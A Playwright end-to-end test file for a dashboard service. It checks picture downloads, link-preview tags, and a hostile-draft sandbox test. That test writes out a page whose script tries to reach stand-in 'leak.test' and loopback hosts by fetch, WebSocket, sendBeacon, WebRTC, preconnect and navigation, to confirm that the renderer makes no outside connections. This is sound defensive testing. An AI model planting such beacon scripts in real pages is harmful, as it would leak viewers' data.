import fs from "node:fs";
import { expect, test, type APIRequestContext, type Browser, type Page } from "@playwright/test";
import { expectNoSeriousViolations } from "./support/axe";
import { Canaries } from "./support/canary";
import { peoplesChromium } from "./support/chromium";
import { describeCounts, LoopbackListeners, reached } from "./support/listeners";
import { SignInPage } from "./support/pages";
import { pngSize } from "./support/png";
import { SavedDashboardPage } from "./support/saved-page";
import { DraftAuthor } from "./support/watch-page";

// The drawing as a picture: the safe view's "Download picture" (GET <saved>/drawn.png, signed in,
// each viewer on their own data, as /drawn), and a demo draft's link preview (og:image on its
// watch page, public as the link is, drawn on demo data by the service's contained renderer;
// never for a live draft or a saved dashboard).

// The hostile case's canaries send over a peer connection, which needs the browser people have
// (e2e/support/chromium.ts).
test.use({ launchOptions: peoplesChromium });

async function signIn(page: Page, email: string, next = "/"): Promise<void> {
  await new SignInPage(page).open(next);
  await new SignInPage(page).signInAs(email);
}

/** A signed-in person's requests, in a context of their own. */
async function requestsOf(browser: Browser, baseURL: string, email: string): Promise<{ request: APIRequestContext; close: () => Promise<void> }> {
  const context = await browser.newContext({ baseURL });
  expect((await context.request.post("/signin/demo", { form: { email }, maxRedirects: 0 })).status()).toBe(303);
  return { request: context.request, close: () => context.close() };
}

/** The link preview's tags of a page's HTML, as a crawler reads them. */
async function previewTags(request: APIRequestContext, path: string): Promise<Record<string, string>> {
  const res = await request.get(path, { maxRedirects: 0 });
  const html = await res.text();
  const tags: Record<string, string> = { status: String(res.status()) };
  for (const m of html.matchAll(/<meta (?:property|name)="((?:og|twitter):[a-z:_]+)" content="([^"]*)"/g)) tags[m[1]!] ??= m[2]!.replaceAll("&amp;", "&");
  return tags;
}

test("Download picture: the safe view's drawing as a PNG of the viewer's own data, asked as the drawing is", async ({ page, browser, baseURL, request }) => {
  test.setTimeout(90_000);
  const path = "/~/csm/my-book";
  // Signed out: refused as the drawing is, in the envelope.
  for (const address of [`${path}/drawn`, `${path}/drawn.png`]) {
    const res = await request.get(address);
    expect(res.status(), address).toBe(401);
    expect(await res.json()).toMatchObject({ error: "unauthorized", hint: expect.any(String) });
  }

  await signIn(page, "member@demo.test", path);
  const saved = new SavedDashboardPage(page);
  await expect(saved.drawn().locator("h1")).toHaveText("CX book", { timeout: 30_000 });
  const drawing = (await (await page.request.get(`${path}/drawn?viewport=desktop`)).json()) as { revision: number };
  await expect(saved.downloadPicture()).toBeVisible();
  await expectNoSeriousViolations(page);
  const [download] = await Promise.all([page.waitForEvent("download"), saved.downloadPicture().click()]);
  expect(download.suggestedFilename()).toBe(`csm-my-book-r${drawing.revision}-desktop.png`);
  const downloaded = fs.readFileSync(await download.path());
  expect(pngSize(downloaded).width).toBe(1280);

  const desktop = await page.request.get(`${path}/drawn.png?viewport=desktop&revision=${drawing.revision}`);
  expect(desktop.status()).toBe(200);
  expect(desktop.headers()["content-type"]).toBe("image/png");
  expect(desktop.headers()["content-disposition"]).toBe(`attachment; filename="csm-my-book-r${drawing.revision}-desktop.png"`);
  expect(desktop.headers()["cache-control"]).toBe("private, no-store");
  expect(desktop.headers()["cross-origin-resource-policy"]).toBe("same-origin");
  // The remembered drawing, pictured once: the same bytes as the download.
  expect(Buffer.compare(await desktop.body(), downloaded)).toBe(0);
  const phone = await page.request.get(`${path}/drawn.png?viewport=phone`);
  expect(phone.status()).toBe(200);
  expect(pngSize(await phone.body()).width).toBe(390);
  expect(phone.headers()["content-disposition"]).toMatch(/^attachment; filename="csm-my-book-r\d+-phone\.png"$/);

  // Refused as the drawing is.
  for (const [query, status, error] of [
    [`${path}/drawn.png?viewport=tablet`, 400, "invalid_request"],
    [`/~/csm/no-such-${Date.now().toString(36)}/drawn.png`, 404, "not_found"],
  ] as const) {
    const drawn = await page.request.get(query.replace("/drawn.png", "/drawn"));
    const pictured = await page.request.get(query);
    expect([pictured.status(), drawn.status()]).toEqual([status, status]);
    expect(await pictured.json()).toMatchObject({ error, hint: expect.any(String) });
  }
  expect((await page.request.post(`${path}/drawn.png`, { data: "{}" })).status()).toBe(405);

  // Each viewer's picture is of their own data: the owner's book has rows, the member's a refusal.
  const owner = await requestsOf(browser, baseURL!, "csm@demo.test");
  try {
    const own = await owner.request.get(`${path}/drawn.png?viewport=desktop&revision=${drawing.revision}`);
    expect(own.status()).toBe(200);
    expect(pngSize(await own.body()).width).toBe(1280);
    expect(Buffer.compare(await own.body(), downloaded)).not.toBe(0);
  } finally {
    await owner.close();
  }
});

test("a demo draft's watch page names its picture as its link preview; a live draft's and a saved dashboard's do not", async ({ page, request }) => {
  test.setTimeout(90_000);
  const author = new DraftAuthor(request);
  const board = (label: string) => `<!doctype html><title>Preview board</title><style>body{font:20px sans-serif}</style><h1>${label}</h1><table>${"<tr><td>row</td></tr>".repeat(10)}</table>`;
  const draft = await author.create(board("First"));
  const watchPath = new URL(draft.watchUrl).pathname;

  const tags = await previewTags(request, watchPath);
  expect(tags).toMatchObject({ status: "200", "og:title": "Preview board", "og:type": "website", "twitter:card": "summary_large_image", "twitter:title": "Preview board" });
  const image = tags["og:image"];
  expect(image).toMatch(new RegExp(`^http://127\\.0\\.0\\.1:\\d+/dashboards/playground/draft/${draft.id}/render/1-[0-9a-f]{16}\\.png$`));
  expect(tags["twitter:image"]).toBe(image);

  // Fetched as a crawler does, with nothing rendered before: drawn on demo data, then kept.
  const first = await request.get(image!);
  expect(first.status(), await first.text().catch(() => "")).toBe(200);
  expect(first.headers()["content-type"]).toBe("image/png");
  expect(first.headers()["cache-control"]).toContain("immutable");
  expect(pngSize(await first.body()).width).toBe(1280);
  const again = await request.get(image!);
  expect(Buffer.compare(await again.body(), await first.body())).toBe(0);
  // Once drawn, the page gives its size too.
  const sized = await previewTags(request, watchPath);
  expect(sized["og:image:width"]).toBe("1280");
  expect(Number(sized["og:image:height"])).toBe(pngSize(await first.body()).height);
  // An address of the same draft that names no state of its own is still only what a render made.
  expect((await request.get(image!.replace(/-[0-9a-f]{16}\.png$/, "-0000000000000000.png"))).status()).toBe(404);

  // A new revision, a new picture.
  await author.update(draft, board("Second"));
  const next = (await previewTags(request, watchPath))["og:image"];
  expect(next).toMatch(/\/render\/2-[0-9a-f]{16}\.png$/);

  // A live draft: its name, but no picture (it would need someone's data), and its pictures never draw.
  const live = await author.create(board("Live"), { dataMode: "live" });
  const liveTags = await previewTags(request, new URL(live.watchUrl).pathname);
  expect(liveTags).toMatchObject({ status: "200", "og:title": "Preview board", "twitter:card": "summary" });
  expect(liveTags["og:image"]).toBeUndefined();
  expect(liveTags["twitter:image"]).toBeUndefined();
  expect((await request.get(image!.replace(draft.id, live.id))).status()).toBe(404);

  // A saved dashboard needs sign-in: signed out it is a redirect, signed in a page with no picture.
  expect((await previewTags(request, "/~/csm/my-book")).status).toBe("307");
  await signIn(page, "member@demo.test");
  const saved = await previewTags(page.request, "/~/csm/my-book");
  expect(saved.status).toBe("200");
  expect(Object.keys(saved).filter((k) => k !== "status")).toEqual([]);
});

test.describe("the link preview of a hostile demo draft", () => {
  test("is drawn by the service's renderer without a connection to anything but the server", async ({ browser, request }) => {
    test.setTimeout(90_000);
    const listeners = new LoopbackListeners();
    const canaries = new Canaries(browser, listeners);
    try {
      const t = await listeners.target("preview");
      const hex = `7072657669657700${Date.now().toString(16)}`;
      const html = `<!doctype html><title>Hostile preview</title>
<link rel="preconnect" href="https://pre-${hex}.leak.test:${t.tlsPort}"><link rel="dns-prefetch" href="https://dns-${hex}.leak.test">
<style>body{background:url(http://127.0.0.1:${t.tcpPort}/css)}</style>
<h1 id="h">drawn</h1>
<img src="http://127.0.0.1:${t.tcpPort}/img"><img src="https://img-${hex}.leak.test:${t.tlsPort}/i.png">
<script>
const tries = [
  () => fetch("http://127.0.0.1:${t.tcpPort}/fetch"),
  () => fetch("https://fetch-${hex}.leak.test:${t.tlsPort}/"),
  () => new WebSocket("ws://127.0.0.1:${t.tcpPort}/ws"),
  () => navigator.sendBeacon("http://127.0.0.1:${t.tcpPort}/beacon", "x"),
  () => { const pc = new (window[["RTC", "Peer", "Connection"].join("")])({ iceServers: [{ urls: "stun:127.0.0.1:${t.udpPort}" }] }); pc.createDataChannel("x"); pc.createOffer().then((o) => pc.setLocalDescription(o)); },
  () => window.open("http://127.0.0.1:${t.tcpPort}/open"),
];
for (const f of tries) { try { Promise.resolve(f()).catch(() => {}); } catch {} }
setTimeout(() => { location.href = "https://nav-${hex}.leak.test:${t.tlsPort}/"; }, 6000);
</script>`;
      const draft = await new DraftAuthor(request).create(html);
      const image = (await previewTags(request, new URL(draft.watchUrl).pathname))["og:image"];
      expect(image).toBeTruthy();
      const res = await request.get(image!);
      expect(res.status(), await res.text().catch(() => "")).toBe(200);
      expect(pngSize(await res.body()).width).toBe(1280);
      // Whatever the render set off has had time to arrive (the page is closed before its 6 s navigation).
      await new Promise((resolve) => setTimeout(resolve, 3_000));
      await canaries.send([t], { udp: true });
      const c = listeners.counts("preview");
      expect(reached(c), describeCounts(c)).toBe(false);
    } finally {
      await canaries.close();
      await listeners.close();
    }
  });
});
